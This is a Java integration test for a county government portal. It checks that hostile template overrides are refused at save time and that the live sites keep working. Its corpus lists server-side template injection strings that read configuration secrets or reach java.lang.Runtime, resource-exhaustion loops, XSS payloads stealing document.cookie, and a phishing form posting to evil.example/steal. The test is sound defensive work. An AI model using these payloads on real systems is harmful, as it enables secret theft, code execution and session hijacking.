package cn.gov.baoji.portal.web.look;

import static cn.gov.baoji.portal.web.support.Api.anonymous;
import static cn.gov.baoji.portal.web.support.Api.as;
import static org.assertj.core.api.Assertions.assertThat;

import java.sql.Connection;
import java.sql.Statement;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import jakarta.inject.Inject;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import cn.gov.baoji.portal.core.tenant.TenantProvisioner;
import cn.gov.baoji.portal.web.support.Counties;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * A county webmaster trying, through template overrides, to read the platform's secrets, run code,
 * change page data, take the server down with loops, recursion or output, print unescaped HTML or
 * script, or reach the back office's templates. Each attempt is refused when the draft is saved,
 * with the reason; the live site does not change; and every county still answers afterwards.
 */
@QuarkusTest
class LookOverrideSafetyTest {

    private static final String NESTED_CHANNEL_LOOPS = "{#for a in channels}{#for b in channels}{#for c in channels}"
            + "{#for d in channels}{#for e in channels}{#for f in channels}{#for g in channels}{/for}{/for}{/for}{/for}"
            + "{/for}{/for}{/for}";
    private static final String HUGE_OUTPUT = "{#for a in channels}{#for b in channels}{#for c in channels}<p>"
            + "宝鸡市".repeat(4000) + "</p>{/for}{/for}{/for}";

    @Inject
    TenantProvisioner provisioner;

    @Inject
    AgroalDataSource dataSource;

    @BeforeEach
    void counties() {
        Counties.provision(provisioner, "hostile", "险一区", "619921", "classic");
        Counties.provision(provisioner, "hashaa", "哈一区", "619922", "classic");
        Counties.provision(provisioner, "hashbb", "哈二区", "619923", "classic");
        Counties.provision(provisioner, "fallback", "退一区", "619924", "classic");
    }

    /** Each hostile override with the words its refusal must contain. */
    private static Map<String, List<String>> corpus() {
        Map<String, List<String>> c = new LinkedHashMap<>();
        c.put("{#let t=\"{config:['quarkus.http.port']}\"}{#eval t /}{/let}", List.of("site-name", "eval"));
        c.put("{config:['quarkus.datasource.password']}", List.of("config:"));
        c.put("{inject:tenantStore}", List.of("inject:"));
        c.put("{str:eval('{config:[\"quarkus.http.port\"]}')}", List.of("str:"));
        c.put("{cdi:tenantStore}", List.of("cdi:"));
        c.put("{uri:Foo.bar}", List.of("uri:"));
        c.put("{global:x}", List.of("global:"));
        c.put("<p>{site.getClass}</p>", List.of("getClass"));
        c.put("<p>{site.class.classLoader}</p>", List.of("class"));
        c.put("<p>{look.getClass().forName('java.lang.Runtime')}</p>", List.of("getClass"));
        c.put("<p>{channels.remove(0)}</p>", List.of("remove"));
        c.put("<p>{channels.clear}</p>", List.of("clear"));
        c.put("<p>{msg.put('home','x')}</p>", List.of("put"));
        c.put("{#for i in 2000}{#for j in 2000}{/for}{/for}", List.of("不能循环数字"));
        c.put("{#let n=100000}{#for i in n}x{/for}{/let}", List.of("不是页面提供的列表"));
        c.put(NESTED_CHANNEL_LOOPS, List.of("计算量"));
        c.put("<p class=\"site-title\">{#include site-name /}</p>", List.of("包含"));
        c.put(HUGE_OUTPUT, List.of("字符"));
        c.put("<p>{site.name.raw}</p>", List.of("转义", "raw"));
        c.put("<p>{site.name.safe}</p>", List.of("转义", "safe"));
        c.put("{|<script>alert(1)</script>|}", List.of("不解析的文本块"));
        c.put("<script>alert(document.cookie)</script>", List.of("<script>"));
        c.put("<img src=\"/x.png\" onerror=\"alert(1)\">", List.of("onerror"));
        c.put("<a href=\"javascript:alert(1)\">首页</a>", List.of("javascript:alert(1)"));
        c.put("<iframe src=\"https://evil.example/\"></iframe>", List.of("<iframe>"));
        c.put("<form action=\"https://evil.example/steal\"><button>登录</button></form>", List.of("<form>"));
        c.put("{#include admin-layout /}", List.of("admin-layout"));
        c.put("{#include BackOfficePages/nav /}", List.of("BackOfficePages/nav"));
        return c;
    }

    @Test
    void hostileOverridesAreRefusedAtSaveAndTheLiveSiteAndEveryCountyKeepAnswering() {
        String lookBefore = as("city-admin", "hostile").get("/api/admin/look").asString();
        String liveBefore = anonymous("hostile").get("/").asString();

        corpus().forEach((template, reasons) -> {
            long started = System.nanoTime();
            Response r = as("city-admin", "hostile").body(look(Map.of("site-name", template))).put("/api/admin/look/draft");
            Duration took = Duration.ofNanos(System.nanoTime() - started);

            assertThat(r.statusCode()).as(template + " -> " + r.asString()).isEqualTo(400);
            assertThat(r.contentType()).as(template).startsWith("application/problem+json");
            assertThat(r.jsonPath().getString("field")).as(template).isEqualTo("templates");
            assertThat(r.jsonPath().getString("detail")).as(template).contains("site-name").contains(reasons);
            assertThat(took).as(template).isLessThan(Duration.ofSeconds(5));
        });

        assertThat(as("city-admin", "hostile").get("/api/admin/look").asString()).isEqualTo(lookBefore);
        assertThat(anonymous("hostile").get("/").asString()).isEqualTo(liveBefore);
        Counties.SITE_NAMES.forEach((code, siteName) -> {
            Response home = anonymous(code).get("/");
            assertThat(home.statusCode()).as(code).isEqualTo(200);
            assertThat(home.asString()).as(code).contains(siteName);
        });
    }

    @Test
    void overridesWithTheSameHashCodeRenderEachCountysOwn() {
        Map<String, String> aa = Map.of("site-name", "<p class=\"site-title\"><a href=\"/\">{look.title}</a>【Aa】</p>");
        Map<String, String> bb = Map.of("site-name", "<p class=\"site-title\"><a href=\"/\">{look.title}</a>【BB】</p>");
        assertThat(aa.hashCode()).isEqualTo(bb.hashCode());

        publish("hashaa", aa);
        publish("hashbb", bb);

        assertThat(anonymous("hashaa").get("/").asString()).contains("【Aa】").doesNotContain("【BB】");
        assertThat(anonymous("hashbb").get("/").asString()).contains("【BB】").doesNotContain("【Aa】");
    }

    @Test
    void overridesPrintEverythingEscaped() {
        as("city-admin", "hashaa").body(Map.of("theme", "classic", "names", Map.of("title", "<b>哈一区</b>"), "templates",
                Map.of("site-name", "<p class=\"site-title\"><a href=\"/\">{look.title}</a>"
                        + "{#for c in channels}<span class=\"c\">{c.name}</span>{/for}</p>")))
                .put("/api/admin/look/draft").then().statusCode(200);
        as("city-admin", "hashaa").post("/api/admin/look/publish").then().statusCode(200);

        String home = anonymous("hashaa").get("/").asString();

        assertThat(home).contains("&lt;b&gt;哈一区&lt;/b&gt;").doesNotContain("<b>哈一区</b>")
                .contains("<span class=\"c\">");
    }

    /**
     * An override stored as published that passes a bound on the live site (here: stored directly,
     * as if saved under older rules) does not take the county's site down: the page is shown with the
     * theme alone, within the render bound.
     */
    @Test
    void aPublishedOverrideThatPassesABoundLiveFallsBackToTheTheme() throws Exception {
        String settings = new ObjectMapper().writeValueAsString(Map.of("theme", "classic", "templates",
                Map.of("site-name", HUGE_OUTPUT)));
        try (Connection c = dataSource.getConnection()) {
            c.setAutoCommit(false);
            try (Statement s = c.createStatement()) {
                s.execute("SET LOCAL search_path TO tenant_fallback");
                s.executeUpdate("UPDATE look_version SET state = 'ARCHIVED' WHERE state = 'PUBLISHED'");
                try (var insert = c.prepareStatement("INSERT INTO look_version (state, settings_json, saved_by, published_at) "
                        + "VALUES ('PUBLISHED', ?, '旧规则', now())")) {
                    insert.setString(1, settings);
                    insert.executeUpdate();
                }
                s.execute("SELECT pg_notify('portal_content_changed', 'fallback')");
            }
            c.commit();
        }

        long started = System.nanoTime();
        Response home = anonymous("fallback").get("/");

        assertThat(home.statusCode()).isEqualTo(200);
        assertThat(home.asString()).contains("退一区人民政府").doesNotContain("宝鸡市宝鸡市宝鸡市");
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(5));
    }

    private void publish(String county, Map<String, String> templates) {
        as("city-admin", county).body(look(templates)).put("/api/admin/look/draft").then().statusCode(200);
        as("city-admin", county).post("/api/admin/look/publish").then().statusCode(200);
    }

    private static Map<String, Object> look(Map<String, String> templates) {
        return Map.of("theme", "classic", "templates", templates);
    }
}
